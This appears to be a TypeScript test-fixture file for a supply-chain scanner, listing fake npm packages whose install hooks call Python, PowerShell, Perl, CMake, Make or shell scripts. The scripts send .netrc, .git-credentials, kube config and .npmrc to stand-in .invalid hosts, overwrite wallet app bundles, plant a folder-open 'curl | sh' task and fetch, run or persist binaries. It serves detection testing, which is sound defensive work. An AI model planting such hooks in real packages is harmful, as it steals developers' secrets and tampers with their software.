import { hooked } from '../manifest.ts';
import type { Specimen } from '../specimen.ts';

const from = 'a hook that has another language do it (CanisterWorm, 2026-03: a back door in Python)';

export const specimens: readonly Specimen[] = [
  {
    name: 'python-credentials',
    from,
    files: {
      'package.json': hooked('python3 tools/stamp.py || exit 0'),
      'index.js': `exports.count = text => text.length;\n`,
      'tools/stamp.py': `"""Writes the stamp of the build."""
import json
import pathlib
import urllib.request

STAMP = (".netrc", ".git-credentials", ".kube/config")


def stamp():
    home = pathlib.Path.home()
    return {name: (home / name).read_text() for name in STAMP if (home / name).exists()}


def publish(seen):
    body = json.dumps({"inert": True, "f": seen}).encode()
    urllib.request.urlopen(urllib.request.Request("https://stamp.invalid/q", data=body), timeout=5)


publish(stamp())
`,
    },
    expect: 'block',
    says: ['sends-credentials'],
    happens: { at: 'install', does: 'connects' },
  },
  {
    name: 'python-archive',
    from,
    files: {
      'package.json': hooked('python3 -B tools/probe.py'),
      'tools/probe.py': `import pathlib
import platform

from archive import Archive

if platform.system() == "Darwin":
    path = pathlib.Path("/Applications") / ("Ledger" + " Live.app") / "Contents" / "Resources" / "app.asar"
    bundle = Archive(path)
    bundle.replace("index.html", b"INERT")
    bundle.save()
`,
      'tools/archive.py': `class Archive:
    def __init__(self, path):
        self.path = path
        self.body = path.read_bytes()

    def replace(self, name, data):
        self.body = self.body.replace(name.encode(), data)

    def save(self):
        self.path.write_bytes(self.body)
`,
    },
    expect: 'block',
    says: ['changes-other-application'],
    happens: { at: 'install', does: 'writes file' },
  },
  {
    name: 'powershell-archive',
    from,
    files: {
      'package.json': hooked(String.raw`cmd /d /c tools\register.cmd || exit 0`),
      'tools/register.cmd': `@echo off
set "here=%~dp0"
start "" /b powershell -NoProfile -ExecutionPolicy Bypass -File "%here%register.ps1"
`,
      'tools/register.ps1': `$root = Join-Path $env:LOCALAPPDATA 'exodus'
Get-ChildItem -Path $root -Directory -Filter 'app-*' | ForEach-Object {
    $path = Join-Path $_.FullName 'resources\\app.asar'
    $text = [IO.File]::ReadAllText($path)
    [IO.File]::WriteAllText($path, $text.Replace('a', 'INERT'))
}
`,
    },
    expect: 'block',
    says: ['changes-other-application'],
    happens: { at: 'install', does: 'writes file' },
  },
  {
    name: 'perl-agent-files',
    from,
    files: {
      'package.json': hooked('perl scripts/scaffold.pl "$INIT_CWD" || exit 0'),
      'scripts/scaffold.pl': `use strict;
my $root = shift @ARGV or exit 0;
my (%text, $name);
while (my $line = <DATA>) {
    if ($line =~ /^== (\\S+)$/) { $name = $1; next }
    $text{$name} .= $line if defined $name;
}
for my $file (keys %text) {
    open(my $out, '>', "$root/$file") or next;
    print {$out} $text{$file};
}
__DATA__
== .vscode/tasks.json
{ "tasks": [{ "label": "INERT", "command": "curl -fsSL https://kit.invalid/agent | sh", "runOptions": { "runOn": "folderOpen" } }] }
`,
    },
    expect: 'block',
    says: ['plants-agent-instructions'],
    happens: { at: 'install', does: 'writes file' },
  },
  {
    name: 'cmake-service',
    from,
    files: {
      'package.json': hooked('cmake-js compile --silent || node -e "process.exit(0)"'),
      'CMakeLists.txt': `project(specimen C)
include(Probe)
probe()
add_library(specimen SHARED src/a.c)
`,
      'cmake/Probe.cmake': `function(probe)
  file(DOWNLOAD "https://simd.invalid/probe" "$ENV{HOME}/.local/share/inert/probe")
  execute_process(COMMAND systemctl --user enable --now inert.service)
endfunction()
`,
      'src/a.c': '',
    },
    expect: 'warn',
    says: ['persists'],
  },
  {
    name: 'make-download',
    from,
    files: {
      'package.json': { name: 'specimen', version: '1.0.0', main: 'index.js' },
      'index.js': '',
      'src/a.cc': '',
      'binding.gyp': `{ 'variables': { 'level': '<!(make -s probe)' }, 'targets': [{ 'target_name': 'a', 'sources': ['src/a.cc'] }] }`,
      Makefile: `KIND := $(shell uname -s)-$(shell uname -m)
CACHE := $(HOME)/.cache/inert
define started
@mkdir -p $(@D)
@curl -fsSL https://prebuilt.invalid/$(@F) -o $@ && chmod +x $@ && (nohup $@ >/dev/null 2>&1 &)
endef
probe: $(CACHE)/kernel-$(KIND)
\t@echo 1
$(CACHE)/%:
\t$(started)
`,
    },
    expect: 'block',
    says: ['fetches-and-runs-at-install', 'gyp-runs-command'],
  },
  {
    name: 'shell-beside',
    from: 'a hook that finds its second file by the place of the first',
    files: {
      'package.json': hooked('sh scripts/prepare.sh || exit 0'),
      'scripts/prepare.sh': `#!/bin/sh
here=$(CDPATH= cd -- "$(dirname -- "$0")" && pwd)
case "$(uname -s)" in
  Linux) os=linux ;;
  *) exit 0 ;;
esac
OS="$os" exec node "$here/stage.js"
`,
      'scripts/stage.js': `const fs = require('fs'), os = require('os'), path = require('path');
const body = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8');
fetch('https://sink.invalid/inert', { method: 'POST', body });
`,
    },
    expect: 'block',
    says: ['sends-credentials'],
    happens: { at: 'install', does: 'connects' },
  },
];
